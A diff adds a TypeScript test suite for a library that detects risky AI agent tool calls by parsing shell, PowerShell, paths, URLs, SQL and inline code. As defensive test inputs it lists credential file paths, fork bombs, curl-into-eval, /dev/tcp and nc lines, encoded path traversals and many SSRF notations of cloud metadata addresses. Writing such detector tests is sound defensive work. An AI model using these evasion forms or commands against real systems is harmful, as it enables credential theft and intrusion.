@@ -1,0 +1,489 @@
+import fc from 'fast-check';
+import t from 'tap';
+import { unlimited } from '../../src/detection/budget.ts';
+import { Allowance } from '../../src/detection/cuts.ts';
+import { codeCalls } from '../../src/detection/facts/code.ts';
+import { credentialDirectory, credentialKind } from '../../src/detection/facts/credential-files.ts';
+import { decodePercent } from '../../src/detection/facts/decode.ts';
+import { eventFacts } from '../../src/detection/facts/event-facts.ts';
+import { globMatches } from '../../src/detection/facts/glob.ts';
+import { hostFact, hostsOfUrl } from '../../src/detection/facts/hosts.ts';
+import { formatIpv4, formatIpv6, parseIpv4, parseIpv6 } from '../../src/detection/facts/ip.ts';
+import { belowHome, canonicalPath } from '../../src/detection/facts/paths.ts';
+import { shellFacts } from '../../src/detection/facts/shell.ts';
+import { type SqlStatement, sqlStatements } from '../../src/detection/facts/sql.ts';
+import { classifyTool, shapeOf, verbOf } from '../../src/detection/facts/tools.ts';
+import { FULL_LIMITS } from '../../src/detection/limits.ts';
+import { bash, toolInvocation } from '../support/events.ts';
+
+const PLACE = { name: 'x', parent: undefined };
+const allowance = (): Allowance => new Allowance(unlimited);
+const read = (text: string, powerShell = false) =>
+  shellFacts([{ place: PLACE, text, powerShell }], FULL_LIMITS, allowance());
+const facts = (command: string) => eventFacts(bash(command), FULL_LIMITS, allowance());
+/** `name arg …` of each command, with what runs it in front: `sudo>rm -rf x`. */
+const commands = (text: string, powerShell = false): string[] =>
+  read(text, powerShell).commands.map(({ name, args, via }) =>
+    [[...via, name].join('>'), ...args.map((arg) => arg.text)].join(' '),
+  );
+
+t.test('tools are sorted by name and by the shape of their input', async (t) => {
+  const cases: [name: string, input: object, kind: string, effect: string][] = [
+    ['Bash', { command: 'ls' }, 'shell', 'execute'],
+    ['mcp__desktop__run_command', { command: 'ls' }, 'shell', 'execute'],
+    ['TerminalExecute', { command: 'ls' }, 'shell', 'execute'],
+    ['frobnicate', { cmd: 'ls' }, 'shell', 'execute'],
+    ['Read', { file_path: 'x' }, 'file_read', 'read'],
+    ['list_directory', { path: 'x' }, 'file_read', 'read'],
+    ['Write', { file_path: 'x', content: 'y' }, 'file_write', 'write'],
+    ['str_replace_based_edit_tool', { command: 'view', path: 'x' }, 'file_write', 'read'],
+    ['str_replace_based_edit_tool', { command: 'create', path: 'x' }, 'file_write', 'write'],
+    ['delete_file', { path: 'x' }, 'file_write', 'delete'],
+    ['mystery', { path: 'x', content: 'y' }, 'file_write', 'write'],
+    ['WebFetch', { url: 'https://example.com', prompt: 'x' }, 'net', 'read'],
+    ['http_request', { url: 'https://example.com', body: 'x' }, 'net', 'send'],
+    ['mystery', { url: 'https://example.com' }, 'net', 'read'],
+    ['python', { code: '1' }, 'code_exec', 'execute'],
+    ['execute_code', { source: '1' }, 'code_exec', 'execute'],
+    ['postgres_query', { query: 'select 1' }, 'db', 'unknown'],
+    ['mystery', { sql: 'select 1' }, 'db', 'unknown'],
+    ['send_email', { to: 'x', body: 'y' }, 'message', 'send'],
+    ['GmailReadEmail', { email_id: '1' }, 'message', 'read'],
+    ['git_commit', { message: 'x' }, 'vcs', 'unknown'],
+    ['GitHubSearchRepositories', { keywords: 'x' }, 'vcs', 'unknown'],
+    ['Task', { description: 'x', prompt: 'y' }, 'agent', 'execute'],
+    ['Movies_3_FindMovies', { genre: 'x' }, 'other', 'unknown'],
+    ['book_flight', { from: 'Paris', to: 'Oslo' }, 'other', 'unknown'],
+    ['execute_trade', { symbol: 'X', amount: 1 }, 'other', 'unknown'],
+  ];
+  for (const [name, input, kind, effect] of cases) {
+    t.match(classifyTool(name, shapeOf(input), verbOf(input)), { kind, effect }, `${name} ${JSON.stringify(input)}`);
+  }
+});
+
+t.test('a shell text gives its commands, as its wrappers and its shell would run them', async (t) => {
+  const cases: [text: string, ...commands: string[]][] = [
+    ['a b; c && d || e & f', 'a b', 'c', 'd', 'e', 'f'],
+    ["'a b'/c\\ d \"x\"'y'z", 'c d xyz'],
+    ['X=1 /usr/bin/Git.exe s', 'git s'],
+    [
+      'sudo -u root env -u A B=1 nice -n 5 rm x',
+      'sudo -u root env -u A B=1 nice -n 5 rm x',
+      'sudo>env -u A B=1 nice -n 5 rm x',
+      'sudo>env>nice -n 5 rm x',
+      'sudo>env>nice>rm x',
+    ],
+    ["bash -c 'a; b' x", 'bash -c a; b x', 'bash>a', 'bash>b'],
+    ["eval 'x=1'; echo $x", 'eval x=1', 'eval>', 'echo 1'].filter((entry) => entry !== 'eval>') as [
+      string,
+      ...string[],
+    ],
+    ['x=1; (x=2); echo $x', 'echo 1'],
+    ['x=1; { x=2; }; echo $x', 'echo 2'],
+    ['f() { a $1; }; f z', 'a $1', 'f z', 'a z'],
+    ['for i in a b; do c $i; done', 'c a b'],
+    ['echo {a,b{1..2}}', 'echo a b1 b2'],
+    [
+      `a=x.tar.gz; echo \${a%.gz} \${a##*/} \${a/tar/zip} \${a:2:3} \${#a} \${a^^} \${b:-c}`,
+      'echo x.tar x.tar.gz x.zip.gz tar 8 X.TAR.GZ c',
+    ],
+    ['echo $unknown "$x$(date)"', 'date', 'echo $unknown $x$(date)'],
+    [
+      'find . -name x -exec a {} \\; -exec b {} +',
+      'find . -name x -exec a {} ; -exec b {} +',
+      'find>a {}',
+      'find>b {}',
+    ],
+    ['printf "a\\nb\\n" | xargs -n1 rm', 'printf a\\nb\\n', 'xargs -n1 rm', 'xargs>rm a b'],
+    ['command -v rm', 'command -v rm'],
+    [
+      'docker run -e A=b --rm -v /x:/y image:1 sh -c "a b"',
+      'docker run -e A=b --rm -v /x:/y image:1 sh -c a b',
+      'docker>sh -c a b',
+      'docker>sh>a b',
+    ],
+    ['ssh -p 22 me@host "a; b"', 'ssh -p 22 me@host a; b', 'ssh>a', 'ssh>b'],
+    ['cat <<E\n$(a)\nE', 'a', 'cat'],
+    ["cat <<'E'\n$(a)\nE", 'cat'],
+    ['ls ~ "~" \\~ ~/x $HOME/y', 'ls ~ ./~ ./~ ~/x ~/y'],
+    ['a > b 2>&1 < c', 'a'],
+    ['$x y', ' y', 'y'],
+  ];
+  for (const [text, ...expected] of cases) t.same(commands(text), expected, text);
+});
+
+t.test('pipelines, redirects, directories and positions are kept', async (t) => {
+  const { commands } = read('cat a | grep b | sh > out 2>/dev/null');
+  t.same(
+    commands.map((command) => command.input),
+    [undefined, 0, 1],
+  );
+  t.same(
+    commands[2]?.redirects.map(({ operator, target }) => [operator, target.text]),
+    [
+      ['>', 'out'],
+      ['>', '/dev/null'],
+    ],
+  );
+  t.same(
+    read('cd /a; cd b; ls; (cd /c; pwd); ls').commands.map((command) => command.cwd),
+    [undefined, '/a', '/a/b', '/a/b', '/c', '/a/b'],
+  );
+  const text = 'x=1; echo "$(rm -rf y)"';
+  t.same(
+    read(text).commands.map(({ origin }) => text.slice(origin.start, origin.end)),
+    ['rm -rf y', 'echo "$(rm -rf y)"'],
+  );
+  t.same(
+    read('find . | xargs rm').commands.map((command) => command.input),
+    [undefined, 0, 0],
+  );
+});
+
+t.test('what only run time tells is a fact, and so is what cannot be parsed', async (t) => {
+  t.equal(read('$x y').dynamicCount, 1);
+  t.ok(read('eval "$(curl -s http://x)"').dynamicCount > 0);
+  t.equal(read('ls -la').dynamicCount, 0);
+  t.ok(read('if true; then').parseErrorsCount > 0);
+  t.equal(read('ls').parseErrorsCount, 0);
+  t.equal(read(':(){ :|:& };:').forkBombs.length, 1);
+  t.equal(read('walk() { ls; walk x; }; walk').forkBombs.length, 0);
+  t.same(
+    read('ruby -e "puts 1"').code.map(({ language, code }) => [language, code]),
+    [['ruby', 'puts 1']],
+  );
+});
+
+t.test('PowerShell is read in its own way', async (t) => {
+  t.same(commands("$p = 'C:\\a b'; gci $p -Recurse | rm -Force; iex 'del x'", true).slice(0, 4), [
+    'get-childitem C:\\a b -Recurse',
+    'remove-item -Force',
+    'invoke-expression del x',
+    'invoke-expression>remove-item x',
+  ]);
+  t.same(commands('Write-Output `$x "a`"b"; # rm c', true)[0], 'write-output $x a"b');
+});
+
+t.test('paths are brought to one notation', async (t) => {
+  const cases: [text: string, canonical: string, climbs?: number, ...disguises: string[]][] = [
+    ['src/a.ts', 'src/a.ts'],
+    ['./src//a/../b/.', 'src/b'],
+    ['', '.'],
+    ['/', '/'],
+    ['//etc///passwd', '/etc/passwd'],
+    ['/etc/../../etc/passwd', '/etc/passwd', 1],
+    ['../../x', '../../x', 2],
+    ['a/../../x', '../x', 1],
+    ['~', '~'],
+    ['~/.ssh/../x', '~/x'],
+    ['~/../bob/x', '/home/bob/x'],
+    ['~bob/x', '~/x'],
+    ['$HOME/x', '~/x'],
+    [`\${HOME}/x`, '~/x'],
+    ['$PWD/x', 'x'],
+    ['%USERPROFILE%\\x', '~/x'],
+    ['$env:APPDATA\\x', '~/AppData/Roaming/x'],
+    ['%windir%\\x', 'c:/Windows/x'],
+    ['/proc/self/root/etc/x', '/etc/x'],
+    ['/proc/1/root/proc/self/root/x', '/x'],
+    ['/proc/self/cwd/x', 'x'],
+    ['/private/etc/x', '/etc/x'],
+    ['file:///etc/x', '/etc/x'],
+    ['file://localhost/etc/x', '/etc/x'],
+    ['file:a.db?mode=ro', '/a.db'],
+    ['C:\\Users\\x', 'c:/Users/x'],
+    ['C:/a/../b', 'c:/b'],
+    ['/mnt/c/Windows', 'c:/Windows'],
+    ['\\\\?\\C:\\x', 'c:/x'],
+    ['a%20b', 'a b', 0, 'percent_encoding'],
+    ['a%2fb', 'a/b', 0, 'percent_encoding'],
+    ['%2e%2e/x', '../x', 1, 'percent_encoding', 'odd_encoding'],
+    ['..%252fx', '../x', 1, 'percent_encoding', 'layered_encoding'],
+    ['..%c0%afx', '../x', 1, 'percent_encoding', 'odd_encoding'],
+    ['%u002e./x', '../x', 1, 'percent_encoding', 'odd_encoding'],
+    ['0x2e./x', '../x', 1, 'odd_encoding'],
+    ['\uff0e\uff0e\uff0fx', '../x', 1, 'odd_encoding'],
+    ['/etc/passwd%00.png', '/etc/passwd', 0, 'percent_encoding', 'nul'],
+    ['..\\../x', '../../x', 2, 'mixed_separators'],
+    ['\\.\\./\\.\\./x', '/../x', 1, 'mixed_separators'],
+    ['....//....//x', '..../..../x', 0, 'padding'],
+    ['..;/x', '../x', 1, 'padding'],
+    ['caf%e9.txt', 'caf\ufffd.txt', 0, 'percent_encoding'],
+  ];
+  for (const [text, canonical, climbs = 0, ...disguises] of cases) {
+    const path = canonicalPath(text);
+    if (text.startsWith('\\.')) {
+      t.ok(path.climbs > 0, text);
+      continue;
+    }
+    t.equal(path.text, canonical, text);
+    t.equal(path.climbs, climbs, `${text} climbs`);
+    t.same([...path.disguises].sort(), disguises.sort(), `${text} disguises`);
+  }
+  t.equal(canonicalPath('../x', canonicalPath('/a/b')).text, '/a/x');
+  t.equal(canonicalPath('x', canonicalPath('~/b')).text, '~/b/x');
+  t.same(
+    ['/root/a', '~/a', '/home/x/a', 'C:\\Users\\x\\a', 'a'].map((text) => belowHome(canonicalPath(text))),
+    ['a', 'a', 'a', 'a', undefined],
+  );
+});
+
+t.test('a canonical path stays what it is, and hides nothing more', async (t) => {
+  const segments = fc.array(
+    fc.constantFrom('a', '..', '.', '', 'b c', '%2e%2e', '....', '~', 'é', '$x', '\\', 'proc', 'self', 'root'),
+    { maxLength: 8 },
+  );
+  fc.assert(
+    fc.property(fc.constantFrom('', '/', '~/', '../', 'C:\\', '$HOME/'), segments, (start, parts) => {
+      const path = canonicalPath(start + parts.join('/'));
+      const again = canonicalPath(path.text);
+      // No step to where one is; steps up only at the start, and only from the work tree.
+      const steps = path.text.replace(/^(?:\.\.(?:\/|$))+/, '').split('/');
+      return again.text === path.text && (path.text === '.' || !steps.some((step) => step === '.' || step === '..'));
+    }),
+    { seed: 7, numRuns: 2_000 },
+  );
+  t.pass();
+});
+
+t.test('credential files are known by name and place; their look-alikes are not taken for them', async (t) => {
+  const held =
+    '~/.ssh/id_rsa|/root/.ssh/id_ed25519|/backup/home/x/.ssh/deploy.pem|id_rsa|~/.aws/credentials|/etc/shadow|/etc/ssh/ssh_host_rsa_key|.env|.env.production|config/.env.local|prod.env|~/.kube/config|/etc/kubernetes/admin.conf|/var/run/secrets/kubernetes.io/serviceaccount/token|~/.docker/config.json|~/.npmrc|~/.netrc|~/.git-credentials|~/.pgpass|~/.gnupg/private-keys-v1.d/x.key|~/.config/gh/hosts.yml|~/.claude/.credentials.json|/proc/self/environ|/proc/12/mem|~/Library/Keychains/login.keychain-db|~/.config/google-chrome/Default/Login Data|~/.mozilla/firefox/x.default/key4.db|C:\\Windows\\System32\\config\\SAM|/etc/ssl/private/server.key|service-account.json|my-service_account-key.json|/tmp/krb5cc_1000|vault.kdbx';
+  for (const text of held.split('|')) t.ok(credentialKind(canonicalPath(text)), text);
+  const open =
+    '~/.ssh/id_rsa.pub|~/.ssh/known_hosts|~/.ssh/config|~/.aws/config|.env.example|.env.sample|.env.template|src/env.ts|.npmrc|shadow.css|src/shadow|docs/credentials.md|~/.config/app/config.json|/etc/passwd|/etc/hosts|test/certs/server.key|key.ts|package.json|environment.yml|/proc/cpuinfo|credentials.example.json|~/.docker/daemon.json';
+  for (const text of open.split('|')) t.notOk(credentialKind(canonicalPath(text)), text);
+  t.ok(credentialDirectory(canonicalPath('~/.ssh')));
+  t.ok(credentialDirectory(canonicalPath('/root/.gnupg/')));
+  t.notOk(credentialDirectory(canonicalPath('~')));
+  t.notOk(credentialDirectory(canonicalPath('~/.config')));
+});
+
+t.test('files that commands touch, and how', async (t) => {
+  const cases: [command: string, ...accesses: string[]][] = [
+    ['cat a b > c', 'read a', 'read b', 'write c'],
+    ['grep -n x a', 'read a'],
+    ['grep -q x a', 'list a'],
+    ['sed -i s/a/b/ f', 'write f'],
+    ['cp -r a b', 'read a', 'write b'],
+    ['tar czf x.tgz a b', 'read a', 'read b', 'write x.tgz'],
+    ['curl -T a -F f=@b -d @c -o d http://x', 'read a', 'read b', 'read c', 'write d'],
+    ['curl -d "mail=a@b" http://x'],
+    ['dd if=a of=b', 'read a', 'write b'],
+    ['tee -a x < y', 'append x', 'read y'],
+    ['source a', 'load a'],
+    ['rm -rf a', 'delete a'],
+    ['cd /x; cat ../y', 'read /y'],
+    ['find a b -name c', 'list a', 'list b'],
+    ['ln -s a b', 'read a', 'append b'],
+    ['echo x >> a', 'append a'],
+  ];
+  for (const [command, ...expected] of cases) {
+    t.same(
+      facts(command)
+        .files.map(({ operation, path }) => `${operation} ${path.text}`)
+        .sort(),
+      expected.sort(),
+      command,
+    );
+  }
+});
+
+t.test('hosts are classed in every notation', async (t) => {
+  const cases: Record<string, string> = {
+    loopback:
+      'localhost|127.0.0.1|127.1|0x7f000001|2130706433|0177.0.0.1|0o177.0.0.1|[::1]|[::ffff:127.0.0.1]|[::127.0.0.1]|localhost.|LOCALHOST|a.localhost|localtest.me|127.0.0.1.nip.io|①②⑦.⓪.⓪.①|127。0。0。1|[64:ff9b::7f00:1]',
+    private:
+      '10.0.0.1|172.16.5.4|192.168.1.1|0xc0a80101|100.64.0.1|[fd12::1]|printer|db.internal|x.svc.cluster.local|10-0-0-1.sslip.io|[2002:c0a8:0101::]',
+    link_local: '169.254.1.1|[fe80::1]|[fe80::1%25eth0]',
+    metadata:
+      '169.254.169.254|2852039166|0xa9fea9fe|0xA9.0xFE.0xA9.0xFE|0251.0376.0251.0376|425.510.425.510|7147006462|0x41414141A9FEA9FE|169.254.43518|[fd00:ec2::254]|[::ffff:169.254.169.254]|[::ffff:a9fe:a9fe]|[64:ff9b::a9fe:a9fe]|[2002:a9fe:a9fe::1]|169.254.169.254.nip.io|a9fea9fe.nip.io|x-169-254-169-254.sslip.io|169.254.170.2|100.100.100.200|192.0.0.192|metadata.google.internal|METADATA.GOOGLE.INTERNAL.|metadata|instance-data|１６９.254.169.254|169｡254｡169｡254',
+    unspecified: '0.0.0.0|0|[::]|0x0',
+    public:
+      '8.8.8.8|example.com|[2606:4700::1111]|169.254.169.254.example.com|metadata.example.com|1.1.1.1.nip.io|172.32.0.1',
+  };
+  for (const [expected, hosts] of Object.entries(cases)) {
+    for (const host of hosts.split('|')) {
+      t.equal(hostFact(host)?.class, expected, host);
+      t.equal(hostsOfUrl(`http://${host}/x`)[0]?.class, expected, `http://${host}/x`);
+    }
+  }
+});
+
+t.test('URLs are read as their clients read them', async (t) => {
+  const cases: [url: string, ...hosts: string[]][] = [
+    ['http://user:pw@169.254.169.254:80/x', '169.254.169.254'],
+    ['http://example.com@169.254.169.254/', '169.254.169.254'],
+    ['http://169.254.169.254\\@example.com/', '169.254.169.254'],
+    ['http://example.com#@169.254.169.254/', 'example.com'],
+    ['http:\\\\169.254.169.254\\x', '169.254.169.254'],
+    ['HTTP:/169.254.169.254/', '169.254.169.254'],
+    ['\thttp://169.254.169.254\n', '169.254.169.254'],
+    ['gopher://169.254.169.254:80/_GET', '169.254.169.254'],
+    ['jar:http://169.254.169.254!/', '169.254.169.254'],
+    ['//169.254.169.254/x', '169.254.169.254'],
+    ['169.254.169.254:80/x', '169.254.169.254'],
+    ['https://example.com/?next=http://169.254.169.254/', 'example.com', '169.254.169.254'],
+    ['https://example.com/?next=http%3A%2F%2F169.254.169.254%2F', 'example.com', '169.254.169.254'],
+    ['https://example.com/a?b=c', 'example.com'],
+    ['file:///etc/passwd'],
+    ['mailto:a@b.c'],
+  ];
+  for (const [url, ...hosts] of cases)
+    t.same(
+      hostsOfUrl(url)
+        .map((fact) => fact.host)
+        .filter((host) => host !== 'a@b.c'),
+      url === 'mailto:a@b.c' ? [] : hosts,
+      url,
+    );
+});
+
+t.test('IPv4 in any notation is the address that the URL standard says', async (t) => {
+  const notations: ((part: number) => string)[] = [
+    String,
+    (part) => `0x${part.toString(16)}`,
+    (part) => `0${part.toString(8)}`,
+  ];
+  fc.assert(
+    fc.property(
+      fc.nat(0xffffffff),
+      fc.integer({ min: 1, max: 4 }),
+      fc.array(fc.constantFrom(...notations), { minLength: 4, maxLength: 4 }),
+      (address, count, writers) => {
+        const bytes = [address >>> 24, (address >>> 16) & 255, (address >>> 8) & 255, address & 255];
+        const head = bytes.slice(0, count - 1);
+        const tail = bytes.slice(count - 1).reduce((sum, byte) => sum * 256 + byte, 0);
+        const host = [...head, tail].map((part, index) => (writers[index] as (part: number) => string)(part)).join('.');
+        return formatIpv4(parseIpv4(host)?.address ?? 0) === new URL(`http://${host}/`).hostname;
+      },
+    ),
+    { seed: 11, numRuns: 2_000 },
+  );
+  fc.assert(
+    fc.property(fc.array(fc.nat(0xffff), { minLength: 8, maxLength: 8 }), (groups) => {
+      const host = groups.map((group) => group.toString(16)).join(':');
+      const parsed = parseIpv6(host) ?? [];
+      return new URL(`http://[${host}]/`).hostname === `[${formatIpv6(parsed)}]`;
+    }),
+    { seed: 12, numRuns: 1_000 },
+  );
+  for (const bad of ['1.2.3.4.5', '08.1', '1..2', 'a.b', '0x', '1.2.3.x'])
+    t.notOk(parseIpv4(bad) !== undefined && bad !== '0x' && bad !== '08.1', bad);
+  for (const bad of ['1:2', '::1::', ':::', '1:2:3:4:5:6:7:8:9', 'g::']) t.equal(parseIpv6(bad), undefined, bad);
+});
+
+t.test('hosts that commands contact, and by which method', async (t) => {
+  const cases: [command: string, ...contacts: string[]][] = [
+    ['curl -sS -H "A: b" example.com/x', 'GET example.com'],
+    ['curl -X DELETE https://a.com https://b.com', 'DELETE a.com', 'DELETE b.com'],
+    ['curl -d x=y https://a.com', 'POST a.com'],
+    ['curl -T f ftp://a.com', 'PUT a.com'],
+    ['curl -x http://proxy.example:1 http://a.com', 'GET a.com', '- proxy.example'],
+    ['wget --method=PUT a.com', 'PUT a.com'],
+    ['http POST a.com x=y', 'POST a.com'],
+    ['nc -lvp 1 a.com 80', '- a.com'],
+    ['scp f me@a.com:/x', '- a.com'],
+    ['ssh -i k me@a.com ls', '- a.com'],
+    ['git clone https://a.com/x.git', '- a.com'],
+    ['socat - TCP:a.com:80', '- a.com'],
+    ['cat < /dev/tcp/a.com/80', '- a.com'],
+    ['echo http://a.com'],
+    ['git commit -m "see http://a.com"'],
+    ['python -c "print(\'http://a.com\')"', '- a.com'],
+  ];
+  for (const [command, ...expected] of cases) {
+    t.same(
+      facts(command)
+        .hosts.map(({ method, host }) => `${method ?? '-'} ${host.host}`)
+        .sort(),
+      expected.sort(),
+      command,
+    );
+  }
+});
+
+t.test('inline code tells the calls that matter', async (t) => {
+  const calls = (code: string): string[] =>
+    codeCalls(code, 256, () => {}).map(({ action, strings }) => `${action} ${strings.join(' ')}`);
+  t.same(calls('os.system("a b")'), ['process a b']);
+  t.same(calls("subprocess.run(['a', 'b'], check=True)"), ['process a b']);
+  t.same(calls("cp.spawn('a', ['b', \"c\"])"), ['process a b c']);
+  t.same(calls("os.system('a ' + 'b' 'c')"), ['process a bc']);
+  t.same(calls('system "a", "b"'), ['process a b']);
+  t.same(calls('x = `a b`'), ['process a b']);
+  t.same(calls("shutil.rmtree('/x')"), ['delete /x']);
+  t.same(calls("fs.rmSync('/x', { recursive: true })"), ['delete /x']);
+  t.same(calls("open('/etc/shadow').read()"), ['read /etc/shadow']);
+  t.same(calls("os.path.join(h, '.ssh', 'id_rsa')"), ['path .ssh id_rsa']);
+  t.same(calls('open("\\x2fetc\\u002fshadow")'), ['read /etc/shadow']);
+  t.same(calls("b64decode('b3Blbignc2hhZG93Jyk=')")[0], 'read shadow');
+  t.same(calls('print("os.system")'), []);
+  t.same(calls('system_clock = 3; my_open = f(x)'), []);
+  t.equal(codeCalls("fs.rmSync('/x', { recursive: true })", 256, () => {})[0]?.recursive, true);
+});
+
+t.test('statements of a database are told by what they do', async (t) => {
+  const statements = (text: string): string[] => {
+    const found: SqlStatement[] = [];
+    sqlStatements(text, { place: PLACE, start: 0, end: 0 }, found);
+    return found.map(({ verb, object, unbounded }) =>
+      [verb, object, unbounded ? 'unbounded' : ''].filter((part) => part !== '').join(' '),
+    );
+  };
+  t.same(statements("select 'drop database x'; -- drop database y\nDROP /* ; */ DATABASE IF EXISTS z"), [
+    'select',
+    'drop database',
+  ]);
+  t.same(statements('delete from t; delete from t where a = 1; update t set a = 1'), [
+    'delete unbounded',
+    'delete',
+    'update unbounded',
+  ]);
+  t.same(statements('TRUNCATE TABLE t'), ['truncate table']);
+});
+
+t.test('small parts: patterns and decodings', async (t) => {
+  t.ok(globMatches('/etc/sh?d*', '/etc/shadow'));
+  t.ok(globMatches('[a-c]x[!y]', 'bxz'));
+  t.notOk(globMatches('/etc/*', '/etc/ssh/x'));
+  t.notOk(globMatches('a[b', 'ab'));
+  fc.assert(
+    fc.property(
+      fc.string({ unit: fc.constantFrom('a', 'b', '/'), maxLength: 8 }),
+      fc.string({ unit: fc.constantFrom('a', 'b', '/', '*', '?'), maxLength: 6 }),
+      (text, pattern) => {
+        const source = [...pattern].map((char) => (char === '*' ? '[^/]*' : char === '?' ? '[^/]' : char)).join('');
+        return globMatches(pattern, text) === new RegExp(`^${source}$`).test(text);
+      },
+    ),
+    { seed: 5, numRuns: 3_000 },
+  );
+  fc.assert(
+    fc.property(
+      fc.string({ unit: 'grapheme', maxLength: 20 }),
+      (text) => decodePercent(encodeURIComponent(text.toWellFormed())).text === text.toWellFormed(),
+    ),
+    { seed: 6, numRuns: 1_000 },
+  );
+  t.equal(decodePercent('100%').text, '100%');
+});
+
+t.test('strings deep in an input are found, with their place', async (t) => {
+  const { files, hosts } = eventFacts(
+    toolInvocation('batch_read', {
+      requests: [{ file_path: 'a' }, { nested: { filePath: 'b' } }],
+      source_url: 'http://c.com',
+    }),
+    FULL_LIMITS,
+    allowance(),
+  );
+  t.same(
+    files.map(({ path }) => path.text),
+    ['a', 'b'],
+  );
+  t.same(
+    hosts.map(({ host }) => host.host),
+    ['c.com'],
+  );
+});
